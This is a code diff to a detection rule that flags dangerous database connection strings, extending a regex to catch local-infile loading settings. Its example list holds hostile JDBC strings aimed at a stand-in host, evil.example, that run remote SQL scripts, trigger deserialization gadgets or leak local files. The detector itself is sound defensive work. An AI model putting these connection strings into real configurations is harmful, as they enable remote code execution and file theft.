@@ -19,7 +19,8 @@ const inAddress = foundWithin({
   reach: ADDRESS,
   barriers: '\\s',
 })
-const SETTING = /;init=[^\n]{0,24}runscript|\b(?:autodeserialize=(?:true|yes)|socketfactory=org\.)/
+const SETTING =
+  /;init=[^\n]{0,24}runscript|\b(?:autodeserialize=(?:true|yes)|socketfactory=org\.)|[?&;]allow(?:loadlocalinfile|urlinlocalinfile|_local_infile)=(?:true|yes|1)\b/
 
 /** A setting of a database address that makes the driver load or run something. */
 function findDriverSetting({ lower }: Reading): Span | undefined {
@@ -74,7 +75,7 @@ export const gadgetRules: readonly Rule[] = [
     id: 'java/jdbc',
     family: 'java',
     quotable: false,
-    needs: [/(?:jdbc:|runscript|autodeserialize=|socketfactory=)/],
+    needs: [/(?:jdbc:|runscript|autodeserialize=|socketfactory=|infile=)/],
     chars: 0,
     find: findDriverSetting,
     score: 5,
@@ -83,6 +84,7 @@ export const gadgetRules: readonly Rule[] = [
       "jdbc:h2:mem:;TRACE_LEVEL_SYSTEM_OUT=3;INIT=RUNSCRIPT FROM 'http://evil.example/x.sql'",
       'jdbc:mysql://evil.example:3306/test?autoDeserialize=true&queryInterceptors=x',
       'jdbc:sqlite::resource:http://evil.example/x.db',
+      'mysql://root@evil.example/a?allowLoadLocalInfile=true',
       'jdbc:derby:db;startMaster=true;slaveHost=evil.example',
       'jdbc:postgresql://x/y?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext',
     ],
